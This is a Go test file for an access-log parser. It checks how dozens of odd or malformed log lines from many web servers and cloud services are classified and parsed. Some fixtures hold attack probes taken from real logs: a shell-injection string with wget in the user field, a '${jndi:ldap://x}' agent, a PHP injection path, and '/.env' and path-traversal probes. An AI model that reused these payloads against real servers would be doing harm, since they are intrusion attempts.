package accesslog

import (
	"strconv"
	"strings"
	"testing"
	"time"
)

// now is the clock of all tests of this package: lines may bear any date before.
var now = time.Date(2027, 1, 1, 0, 0, 0, 0, time.UTC)

// TestOddities has one small line for each oddity that real logs were seen to
// hold, in the order in which they were met: what must come out of it, or the
// kind under which it is counted.
func TestOddities(t *testing.T) {
	t.Parallel()
	const at = ` - - [05/Mar/2024:10:20:30 +0000] `
	const ua = `"Mozilla/5.0 (X11; Linux x86_64) Test/1"`
	for _, tc := range []struct {
		name, line string
		kind       Kind
		want       string // client method host path?query status bytes agent
	}{
		{"no request", `192.0.2.1` + at + `"-" 400 0 "-" "-"`, NoRequest, ""},
		{"empty request", `192.0.2.1` + at + `"" 400 0 "-" "-"`, NoRequest, ""},
		{"time-out", `192.0.2.1` + at + `"-" 408 339 "-" "-"`, NoRequest, ""},
		{"TLS on the plain port", `192.0.2.1` + at + `"\x16\x03\x01\x01D" 400 483 "-" "-"`, NotHTTP, ""},
		{"TLS with escaped quote", `192.0.2.1` + at + `"\x16\x03\x22\x00 x" 400 166 "-" "-"`, NotHTTP, ""},
		{"RDP cookie", `192.0.2.1` + at + `"\x03\x00Cookie: mstshash=Adm" 400 166 "-" "-"`, NotHTTP, ""},
		{"SSH banner", `192.0.2.1` + at + `"SSH-2.0-Go" 400 166 "-" "-"`, NotHTTP, ""},
		{"garbage with quotes", `192.0.2.1` + at + `"1.ll|'|'|Q|'|'|Win 7 Pro SP1|'|'|AA==" 400 166 "-" "-"`, NotHTTP, ""},
		{"JSON-RPC", `192.0.2.1` + at + `"{\x22id\x22:1,\x22params\x22:[]}" 400 166 "-" "-"`, NotHTTP, ""},
		{"one word", `192.0.2.1` + at + `"MGLNDD_192.0.2.9_443" 400 166 "-" "-"`, NotHTTP, ""},
		{"no protocol", `192.0.2.1` + at + `"t3 12.1.2" 400 166 "-" "-"`, NotHTTP, ""},
		{"HTTP/0.9", `192.0.2.1` + at + `"GET /old" 200 166 "-" "-"`, Parsed, `192.0.2.1 GET - /old 200 166 -`},
		{"impossible version", `192.0.2.1` + at + `"GET / HTTP/1.2" 400 157 "-" "x"`, Parsed, `192.0.2.1 GET - / 400 157 x`},
		{"unknown method", `192.0.2.1` + at + `"SSTP_DUPLEX_POST /sra_{B-1}/ HTTP/1.1" 400 1 "-" "-"`, Parsed, `192.0.2.1 SSTP_DUPLEX_POST - /sra_{B-1}/ 400 1 -`},
		{"CONNECT", `192.0.2.1` + at + `"CONNECT 192.0.2.7:443 HTTP/1.1" 400 0 "-" "-"`, Parsed, `192.0.2.1 CONNECT 192.0.2.7 - 400 0 -`},
		{"absolute form", `192.0.2.1` + at + `"GET http://a.example:8080/x?y=1 HTTP/1.1" 404 9 "-" "-"`, Parsed, `192.0.2.1 GET a.example /x?y=1 404 9 -`},
		{"WebDAV", `192.0.2.1` + at + `"PROPFIND / HTTP/1.1" 200 9 "-" "-"`, Parsed, `192.0.2.1 PROPFIND - / 200 9 -`},
		{"shell in the user field", `192.0.2.1 - ';echo '[S]';cd /tmp; wget x -O [b];' [05/Mar/2024:10:20:30 +0000] "GET /set?v=1 HTTP/1.1" 502 1 "-" "-"`, Parsed, `192.0.2.1 GET - /set?v=1 502 1 -`},
		{"forged stamp in the user field", `192.0.2.1 - x [01/Jan/2000:00:00:00 +0000] \x22GET / [05/Mar/2024:10:20:30 +0000] "GET /b HTTP/1.1" 200 1 "-" "-"`, Parsed, `192.0.2.1 GET - /b 200 1 -`},
		{"user name", `192.0.2.1 - jo [05/Mar/2024:10:20:30 +0000] "POST /c HTTP/1.1" 200 28 "-" "-"`, Parsed, `192.0.2.1 POST - /c 200 28 -`},
		{"cut in the agent", `192.0.2.1` + at + `"GET /a.py HTTP/1.1" 200 235 "-" "Mozilla/5.0 (compatible; Googlebot/2.1; +http://g`, Truncated, ""},
		{"cut in the request", `192.0.2.1` + at + `"GET /a`, Truncated, ""},
		{"cut after the time", `192.0.2.1 - - [05/Mar/2024:10:20:30 +0000]`, Truncated, ""},
		{"two records in one", `www.a.example 192.0.2.1` + at + ` "GET //x HTTP/1.1" 404 233 "-" "Mozilla/5.0 www.b.example- - [05/Mar/2024:10:21:08 -0300]  "GET //y HTTP/1.1" 404 2 "-" "Mozilla"`, Spliced, ""},
		{"virtual host, two blanks", `www.a.example 192.0.2.1` + at + ` "GET //x HTTP/1.1" 404 225 "-" ` + ua, Parsed, `192.0.2.1 GET www.a.example //x 404 225 Mozilla/5.0 (X11; Linux x86_64) Test/1`},
		{"virtual host with port", `a.example:443 192.0.2.1` + at + `"GET / HTTP/1.1" 200 4888 "-" "-"`, Parsed, `192.0.2.1 GET a.example / 200 4888 -`},
		{"common", `192.0.2.1` + at + `"GET / HTTP/2.0" 200 636`, Parsed, `192.0.2.1 GET - / 200 636 -`},
		{"IPv6", `2001:db8:a99::d7b2` + at + `"GET / HTTP/1.1" 400 485 "-" "-"`, Parsed, `2001:db8:a99::d7b2 GET - / 400 485 -`},
		{"host name as client", `host.example.net` + at + `"GET / HTTP/1.1" 200 485 "-" "-"`, Parsed, `invalid GET - / 200 485 -`},
		{"virtual host and host name", `www.a.example host.example.net` + at + `"GET / HTTP/1.1" 200 485 "-" "-"`, Parsed, `invalid GET www.a.example / 200 485 -`},
		{"unix socket", `unix:` + at + `"GET / HTTP/1.1" 200 485 "-" "-"`, Parsed, `invalid GET - / 200 485 -`},
		{"list as client", `198.51.100.7, 203.0.113.9` + at + `"GET / HTTP/1.1" 200 485 "-" "-"`, Parsed, `203.0.113.9 GET - / 200 485 -`},
		{"status 499", `192.0.2.1` + at + `"POST /wp-cron.php?d=1 HTTP/1.0" 499 0 "-" "WordPress/3"`, Parsed, `192.0.2.1 POST - /wp-cron.php?d=1 499 0 WordPress/3`},
		{"bytes dash", `192.0.2.1` + at + `"GET /robots.txt HTTP/1.1" 200 - "-" "Sogou"`, Parsed, `192.0.2.1 GET - /robots.txt 200 0 Sogou`},
		{"agent empty", `192.0.2.1` + at + `"GET / HTTP/1.1" 200 1 "-" ""`, Parsed, `192.0.2.1 GET - / 200 1 -`},
		{"agent in its own quotes", `192.0.2.1` + at + `"GET / HTTP/1.1" 200 1 "-" "'Mozilla/5.0 (x)'"`, Parsed, `192.0.2.1 GET - / 200 1 'Mozilla/5.0 (x)'`},
		{"agent with raw quotes", `192.0.2.1` + at + `"GET / HTTP/1.1" 200 1 "-" "a "b" c"`, Parsed, `192.0.2.1 GET - / 200 1 a "b" c`},
		{"escaped quote in the path", `192.0.2.1` + at + `"GET /i.php?<?echo(md5(\"hi\"));?>+/t HTTP/1.1" 404 515 "-" "-"`, Parsed, `192.0.2.1 GET - /i.php?<?echo(md5(\"hi\"));?>+/t 404 515 -`},
		{"raw quote in the path", `192.0.2.1` + at + `"GET /a"b HTTP/1.1" 404 515 "-" "-"`, Parsed, `192.0.2.1 GET - /a"b 404 515 -`},
		{"blank in the path", `192.0.2.1` + at + `"HEAD /a b c HTTP/1.1" 404 515 "-" "-"`, Parsed, `192.0.2.1 HEAD - /a b c 404 515 -`},
		{"bytes of another charset", "192.0.2.1" + at + "\"GET /\xac\xb0\xa8 HTTP/1.0\" 301 368 \"-\" \"-\"", Parsed, "192.0.2.1 GET - /\xac\xb0\xa8 301 368 -"},
		{"dash missing", `192.0.2.1 - [05/Mar/2024:10:20:30 +0000] "GET /t HTTP/1.1" 200 100 "-" "curl/7"`, Parsed, `192.0.2.1 GET - /t 200 100 curl/7`},
		{"date in the agent", `192.0.2.1` + at + `"GET / HTTP/1.1" 200 1 "-" "x 3764-11-07 02:32:07 [01/Jan/1999:00:00:00 +0000]"`, Parsed, `192.0.2.1 GET - / 200 1 x 3764-11-07 02:32:07 [01/Jan/1999:00:00:00 +0000]`},
		{"far future", `192.0.2.1 - - [05/Mar/3764:10:20:30 +0000] "GET / HTTP/1.1" 200 1 "-" "-"`, AbsurdTime, ""},
		{"before the web", `192.0.2.1 - - [01/Jan/1970:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "-"`, AbsurdTime, ""},
		{"no such day", `192.0.2.1 - - [31/Feb/2024:10:20:30 +0000] "GET / HTTP/1.1" 200 1 "-" "-"`, BadTime, ""},
		{"NUL bytes in front", "\x00\x00\x00192.0.2.1" + at + `"GET / HTTP/1.1" 200 1 "-" "-"`, Parsed, `192.0.2.1 GET - / 200 1 -`},
		{"byte order mark and CR", "\ufeff192.0.2.1" + at + `"GET / HTTP/1.1" 200 1 "-" "-"` + "\r", Parsed, `192.0.2.1 GET - / 200 1 -`},
		{"syslog head", `Mar  5 10:20:30 web1 nginx: 192.0.2.1` + at + `"GET / HTTP/1.1" 200 1 "-" "-"`, Parsed, `192.0.2.1 GET - / 200 1 -`},
		{"compose prefix", `web-1  | 192.0.2.1` + at + `"GET / HTTP/1.1" 200 1 "-" "-"`, Parsed, `192.0.2.1 GET - / 200 1 -`},
		{"docker json-file", `{"log":"192.0.2.1 - - [05/Mar/2024:10:20:30 +0000] \"GET /d HTTP/1.1\" 200 1 \"-\" \"-\"\n","stream":"stdout","time":"2024-03-05T10:20:31Z"}`, Parsed, `192.0.2.1 GET - /d 200 1 -`},
		{"journal message", `{"timestamp":1709634030,"message":"f.0 nginx: 192.0.2.1 - - [05/Mar/2024:10:20:30 +0000] \"GET /j HTTP/1.1\" 502 1535 \"-\" \"M\"","metadata":{"e":"p"}}`, Parsed, `192.0.2.1 GET - /j 502 1535 M`},
		{"nginx error", `2024/03/05 10:20:30 [error] 31#31: *46 "/i.html" is not found, client: 192.0.2.1, request: "GET /m/ HTTP/1.1"`, Foreign, ""},
		{"present limiter", `2024/03/05 10:20:30 [error] 4#4: *5 limiting requests, excess: 5.4 by zone "z", client: ::1, request: "GET / HTTP/1.1"`, LimitNotice, ""},
		{"LiteSpeed message", `2024-03-05 10:20:30.77 [NOTICE] [1] [192.0.2.1:45164] Failed Login`, Foreign, ""},
		{"nonsense", `lorem ipsum dolor`, Unrecognised, ""},
		{"blank", " \t", Blank, ""},
		{"comment", "# a remark", Directive, ""},

		{"Traefik text", `192.0.2.1` + at + `"GET /b HTTP/2" 200 352 "-" "Nikto" 244 "t@docker -> l@docker" "http://192.0.2.3:80" 42ms`, Parsed, `192.0.2.1 GET - /b 200 352 Nikto`},
		{"Traefik text without status", `192.0.2.1` + at + `"GET /b HTTP/1.1" - - "-" "N" 4 "-" "-" 0ms`, Parsed, `192.0.2.1 GET - /b 0 0 N`},
		{"Traefik JSON", `{"ClientAddr":"172.20.0.1:52458","ClientHost":"192.0.2.1","DownstreamContentSize":15,"DownstreamStatus":"200","Duration":10002,"RequestAddr":"a.example","RequestHost":"a.example","RequestMethod":"GET","RequestPath":"/p?_rsc=1","RouterName":"a -> b","ServiceURL":{"Host":"x:80","User":null},"StartUTC":"2024-03-05T10:20:30.77Z","request_User-Agent":"Pr","time":"2024-03-05T12:41:25"}`, Parsed, `192.0.2.1 GET a.example /p?_rsc=1 200 15 Pr`},
		{"Traefik JSON, URL as text", `{"ClientHost":"192.0.2.1","DownstreamStatus":200,"RequestMethod":"GET","RequestPath":"/","ServiceURL":"http://x:80","StartUTC":"2024-03-05T10:20:30Z"}`, Parsed, `192.0.2.1 GET - / 200 0 -`},
		{"Caddy", `{"level":"info","ts":1709634030.7564,"msg":"handled request","request":{"remote_ip":"172.17.0.1","client_ip":"192.0.2.1","method":"GET","host":"a.example:8080","uri":"/b?c=d","headers":{"User-Agent":["curl/7"],"Accept":["*/*"]}},"size":5,"status":0,"resp_headers":{"Content-Type":["text/html"]}}`, Parsed, `192.0.2.1 GET a.example /b?c=d 0 5 curl/7`},
		{"Caddy's other loggers", `{"level":"debug","ts":1709634030.7,"logger":"http.handlers.reverse_proxy","msg":"selected upstream"}`, Foreign, ""},
		{"nginx JSON, numbers as text", `{"msec":"1709634030.591","remote_addr":"192.0.2.1","request":"GET /r HTTP/1.1","request_uri":"/r?x","status":"304","body_bytes_sent":"0","http_referer":"-","http_user_agent":"M","http_host":"a.example:80","server_name":"s"}`, Parsed, `192.0.2.1 GET a.example /r?x 304 0 M`},
		{"nginx JSON, path in request", `{"@timestamp":"2024-03-05T18:20:30.872+08:00","method":"GET","remote_addr":"192.0.2.1","request":"/inner","request_uri":"/outer","status":"200"}`, Parsed, `192.0.2.1 GET - /outer 200 0 -`},
		{"JSON cut", `{"remote_addr":"192.0.2.1","request":"GET / HT`, Truncated, ""},
		{"JSON broken", `{"remote_addr":"192.0.2.1",,}`, Malformed, ""},
		{"two JSON objects in one line", `{"remote_addr":"192.0.2.1","request":"GET / HTTP/1.1","status":200,"msec":1709634030}{"remote_addr":"192.0.2.2"}`, Spliced, ""},
		{"Envoy JSON in container prefix", `2024-03-05T11:20:30.493+01:00 stdout F {":authority":"a.example","bytes_sent":12,"downstream_remote_address":"[2001:db8::12]:43000","duration":11,"method":"GET","requested_server_name":null,"response_code":200,"start_time":"2024-03-05T10:20:30.479Z","user-agent":"M","x-envoy-origin-path":"/i","x-forwarded-for":"203.0.113.8"}`, Parsed, `2001:db8::12 GET a.example /i 200 12 M`},
		{"Envoy text with list", `[2024-03-05T10:20:30.000Z] "GET /api HTTP/1.1" 200 - 0 512 30 15 "203.0.113.8, 192.0.2.1" "M" "id" "a.example" "tcp://192.0.2.4:80"`, Parsed, `192.0.2.1 GET a.example /api 200 512 M`},
		{"Envoy text of Istio", `[2024-03-05T10:20:30.000Z] "GET /api HTTP/1.1" 200 - via_upstream - "-" 0 512 30 15 "-" "M" "id" "a.example" "192.0.2.4:80" out 192.0.2.5:1 192.0.2.6:2 192.0.2.1:3 - default`, Parsed, `192.0.2.1 GET a.example /api 200 512 M`},
		{"HAProxy", `192.0.2.1:14853 [05/Mar/2024:10:20:30.127] in~ be/s1 170/0/0/3/173 200 739 - - --NN 0/0/0/0/0 0/0 {Mozilla/5|https://a.example/} "GET /x HTTP/1.1"`, Parsed, `192.0.2.1 GET - /x 200 739 Mozilla/5`},
		{"HAProxy behind syslog", `Mar 5 10:20:31 h haproxy[6801]: 192.0.2.1:55008 [05/Mar/2024:10:20:30.584] in~ be/s 0/0/0/72/72 200 7456 - - ---- 5/4/0/1/0 0/0 "POST /u/ HTTP/1.1"`, Parsed, `192.0.2.1 POST - /u/ 200 7456 -`},
		{"HAProxy TLS error", `192.0.2.1:50033 [05/Mar/2024:10:20:30.123] f/b: SSL handshake failure (error:0A0000C1)`, Foreign, ""},
		{"HAProxy bad request", `192.0.2.1:1 [05/Mar/2024:10:20:30.123] f f/<NOSRV> -1/-1/-1/-1/0 400 187 - - PR-- 1/1/0/0/0 0/0 "<BADREQ>"`, NotHTTP, ""},
		{"proxy manager", `[05/Mar/2024:10:20:30 +0000] HIT 200 200 - GET https a.example "/api/u" [Client 192.0.2.1] [Length 1543] [Gzip 2.45] [Sent-to 192.0.2.9:80] "M" "https://a.example/d"`, Parsed, `192.0.2.1 GET a.example /api/u 200 1543 M`},
		{"proxy manager without upstream", `[05/Mar/2024:10:20:30 +0000] 444 - GET https 203.0.113.4 "/.env" [Client 192.0.2.1] [Length 0] [Gzip -] "M" "-"`, Parsed, `192.0.2.1 GET 203.0.113.4 /.env 444 0 M`},
		{"proxy manager, no cache", `[05/Mar/2024:10:20:30 +0000] - 404 404 - GET http a.example "/s" [Client 192.0.2.1] [Length 192] [Gzip 3.10] [Sent-to a] "M" "-"`, Parsed, `192.0.2.1 GET a.example /s 404 192 M`},

		{"ALB", `https 2024-03-05T10:20:30.186Z app/x/5 [2001:db8::12]:2817 192.0.2.9:80 0.086 0.048 0.037 200 200 0 57 "GET https://www.a.example:443/r?q=1 HTTP/1.1" "curl/7" E T arn "Root=1-58" "www.a.example" "-" 1 t "f" "-" "-" "b" "200" "-" "-"`, Parsed, `2001:db8::12 GET www.a.example /r?q=1 200 57 curl/7`},
		{"ALB, bare v6 with port", `h2 2024-03-05T10:20:30.186Z app/x/5 2001:db8:1:2:3:4:5:f215:50718 - -1 -1 -1 404 - 204 167 "GET https://a.example:443/%%32%65/ HTTP/1.1" "${jndi:ldap://x}" E T - "Root=1-58" "a" "-" 0 t "f" "-" "-" "-" "-" "-" "-"`, Parsed, `2001:db8:1:2:3:4:5:f215 GET a.example /%%32%65/ 404 167 ${jndi:ldap://x}`},
		{"classic ELB", `2024-03-05T10:20:30.943Z lb 192.0.2.1:54635 10.0.6.1:80 0.1 0.2 0.3 200 200 0 699 "GET https://a.example:443/s HTTP/1.1" "M" - -`, Parsed, `192.0.2.1 GET a.example /s 200 699 M`},
		{"classic ELB, TCP", `2024-03-05T10:20:30.943Z lb 192.0.2.1:2817 10.0.0.1:80 0.1 0.2 0.3 - - 82 305 "- - - " "-" - -`, NoRequest, ""},
		{"S3", `b65 www.a.example [05/Mar/2024:10:20:30 +0000] 192.0.2.1 arn:x EB35 WEBSITE.GET.OBJECT i "GET /i HTTP/1.1" 200 - 368 368 10 9 "-" "M"`, Parsed, `192.0.2.1 GET www.a.example /i 200 368 M`},
		{"API Gateway, seconds", `{"apiId":"p","domainName":"a.example","httpMethod":"GET","ip":"192.0.2.1","userAgent":"P","requestTimeEpoch":"1709634030","path":"/a","status":"200","responseLength":"25"}`, Parsed, `192.0.2.1 GET a.example /a 200 25 P`},
		{"API Gateway, milliseconds", `{"domainName":"a.example","httpMethod":"GET","ip":"192.0.2.1","requestTimeEpoch":"1709634030948","path":"/a/%7Bp%7D","resourcePath":"/a/{p}","status":"200"}`, Parsed, `192.0.2.1 GET a.example /a/%7Bp%7D 200 0 -`},
		{"API Gateway without path", `{"httpMethod":"GET","ip":"192.0.2.1","requestTimeEpoch":"1709634030","resourcePath":"-","status":"200"}`, NoRequest, ""},
		{"CloudFront without header", "2024-03-05\t10:20:30\tCDG50\t703\t192.0.2.1\tGET\td1.cloudfront.net\t/t\t400\t-\tcurl/7\tq=42\t-\tError\tid==\twww.a.example\thttps\t62\t0.113\t-", Parsed, `192.0.2.1 GET www.a.example /t?q=42 400 703 curl/7`},
		{"CloudFront, agent encoded twice", "2024-03-05\t10:20:30\tF\t182\t192.0.2.1\tGET\td1.cloudfront.net\t/v\t000\t-\tMozilla/5.0%2520(X;%2520de)\t-\t-\tMiss\tid\twww.a.example", Parsed, `192.0.2.1 GET www.a.example /v 0 182 Mozilla/5.0 (X; de)`},
		{"Cloudflare, ns", `{"ClientIP":"192.0.2.1","ClientRequestMethod":"GET","ClientRequestURI":"/x?y","ClientRequestHost":"a.example","ClientRequestUserAgent":"M","EdgeStartTimestamp":1709634030000000000,"EdgeResponseStatus":200,"EdgeResponseBytes":9,"RayID":"r","CacheCacheStatus":"hit"}`, Parsed, `192.0.2.1 GET a.example /x?y 200 9 M`},
		{"Cloudflare sub-request", `{"ClientIP":"192.0.2.1","ClientRequestURI":"/x","EdgeStartTimestamp":"1709634030","RayID":"r","ParentRayID":"q","WorkerSubrequest":true}`, SubRequest, ""},
		{"Cloudflare without request", `{"ClientIP":"192.0.2.1","RayID":"r","EdgeStartTimestamp":1709634030000000000}`, NoRequest, ""},
		{"Google LB with port", `{"httpRequest":{"requestMethod":"GET","requestUrl":"http://a.example:8080/c.jpg","status":304,"responseSize":"157","userAgent":"M","remoteIp":"192.0.2.1:9989","cacheHit":true},"insertId":"i","timestamp":"2024-03-05T10:20:30.078Z","resource":{"type":"http_load_balancer"}}`, Parsed, `192.0.2.1 GET a.example /c.jpg 304 157 M`},
		{"Cloud Run", `{"httpRequest":{"latency":"0.0019s","protocol":"H2C","remoteIp":"2001:db8::a","requestMethod":"GET","requestUrl":"https://a.run.app/","responseSize":"963","status":503,"userAgent":"M"},"insertId":"i","receiveTimestamp":"2024-03-05T10:25:00Z","resource":{"type":"cloud_run_revision"},"timestamp":"2024-03-05T10:20:30Z"}`, Parsed, `2001:db8::a GET a.run.app / 503 963 M`},
		{"Google, text row", `{"textPayload":"[2024-03-05 10:20:30 +0000] [1] [INFO] Starting","insertId":"i","timestamp":"2024-03-05T10:20:30Z"}`, Foreign, ""},
		{"Vercel", `{"id":"1","timestamp":1709634031122,"type":"stdout","requestId":"b-1","proxy":{"timestamp":1709634030010,"method":"GET","host":"a.example","path":"/au?_rsc=x","userAgent":["M","n"],"clientIp":"192.0.2.1","statusCode":null},"source":"lambda","path":"/au.rsc"}`, Parsed, `192.0.2.1 GET a.example /au?_rsc=x 0 0 M`},
		{"Vercel middleware", `{"type":"middleware-invocation","requestId":"b-2","proxy":{"timestamp":1709634030010,"clientIp":"192.0.2.1","method":"GET","path":"/","host":"a.example"},"path":"middleware"}`, SubRequest, ""},
		{"Vercel edge row without path", `{"timestamp":1709634030010,"source":"edge","requestId":"h","proxy":{"timestamp":1709634030010,"method":"GET","host":"a.example","clientIp":"192.0.2.1"},"path":"src/middleware"}`, NoRequest, ""},
		{"Vercel build", `{"id":"1","message":"info - Compiled","timestamp":1709634030010,"source":"build","host":"a.vercel.sh"}`, Foreign, ""},
		{"IIS without header", `2024-03-05 10:20:30 192.0.2.9 GET /h@2x.png - 80 - 192.0.2.1 Mozilla/5.0+(Windows+NT) https://a.example/L.css 200 0 0 862954 907 12`, Parsed, `192.0.2.1 GET - /h@2x.png 200 0 Mozilla/5.0 (Windows NT)`},
		{"IIS with zone id", `2024-03-05 10:20:30 ex02 fe80::d9:42%3 POST /m/ Id=x 444 Anon fe80::d9:42%3 Microsoft+Office/16 - 200 0 0 4 10.0.61.69,10.93.4.75 36391`, Parsed, `fe80::d9:42 POST - /m/?Id=x 200 0 Microsoft Office/16`},
		{"IIS with site and version", `2024-03-05 10:20:30 W3SVC2 web1 192.0.2.9 GET /r - 80 - 192.0.2.1 HTTP/1.1 Twitterbot/1.0 - - i.example.edu 200 0 0 346 306 0 203.0.113.6`, Parsed, `192.0.2.1 GET i.example.edu /r 200 0 Twitterbot/1.0`},
		{"known custom layout", `a.example,443,192.0.2.1,-,-,[05/Mar/2024:10:20:30 +0000],210,275,485,196,0,313,-,404,"HTTP/2.0","GET","/robots.txt","?q=1","-","Mozilla/5.0 (a, b)","-",-`, Parsed, `192.0.2.1 GET a.example /robots.txt?q=1 404 275 Mozilla/5.0 (a, b)`},
		{"hit log", `{"time":"2024-03-05T10:20:30Z","severity":"INFO","event":"limited","reason":"full","site":"s","host":"a.example","ip":"192.0.2.1","key_type":"address","key":"192.0.2.1","user_agent":"M","method":"GET","path":"/x?a=b","sec_fetch_dest":"document","status":429}`, Parsed, `192.0.2.1 GET a.example /x?a=b 429 0 M`},
		{"hit log, prefix only", `{"time":"2024-03-05T10:20:30Z","event":"hit","site":"s","ip":"192.0.2.0/24","key_type":"address","user_agent":"M","method":"GET","path":"/x","status":200}`, Parsed, `192.0.2.0 GET - /x 200 0 M`},
		{"hit log, digest", `{"time":"2024-03-05T10:20:30Z","event":"hit","site":"s","ip":"9f86d081884c7d65","key_type":"address","method":"GET","path":"/x","status":200}`, Parsed, `invalid GET - /x 200 0 -`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			p := NewParser(Options{Now: now})
			var r Record
			k := p.Parse(tc.line, &r)
			if k != tc.kind {
				t.Fatalf("kind %v, want %v (record %+v)", k, tc.kind, r)
			}
			if k != Parsed {
				return
			}
			if got := brief(&r); got != tc.want {
				t.Errorf("\n got %s\nwant %s", got, tc.want)
			}
			if want := time.Date(2024, 3, 5, 10, 20, 30, 0, time.UTC); !r.Time.Truncate(time.Second).Equal(want) {
				t.Errorf("time %v, want %v", r.Time, want)
			}
		})
	}
}

func brief(r *Record) string {
	client := "invalid"
	if r.Client.IsValid() {
		client = r.Client.String()
	}
	var b strings.Builder
	b.WriteString(client)
	for _, s := range []string{r.Method, r.Host, r.Target()} {
		if s == "" {
			s = "-"
		}
		b.WriteString(" " + s)
	}
	b.WriteString(" " + strconv.Itoa(r.Status) + " " + strconv.FormatInt(r.Bytes, 10))
	if r.UserAgent == "" {
		b.WriteString(" -")
	} else {
		b.WriteString(" " + r.UserAgent)
	}
	return b.String()
}
